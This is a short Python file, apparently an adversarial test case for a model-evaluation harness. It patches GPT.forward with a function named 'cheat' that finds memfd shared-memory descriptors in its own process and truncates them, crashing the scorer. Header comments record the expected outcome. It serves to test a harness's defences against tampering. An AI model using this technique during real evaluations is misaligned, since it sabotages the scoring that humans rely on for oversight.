"""Take the shared memory away under the scorer's hands."""

# ends: crash
# stage: score
# only: acceptance
# admission: lets it in
import contextlib
import os

_forward = GPT.forward


def cheat(self, tokens):
    logits = _forward(self, tokens)
    for number in range(3, 40):
        with contextlib.suppress(OSError):
            if "memfd" in os.readlink(f"/proc/self/fd/{number}"):
                os.ftruncate(number, 0)
    return logits


GPT.forward = cheat
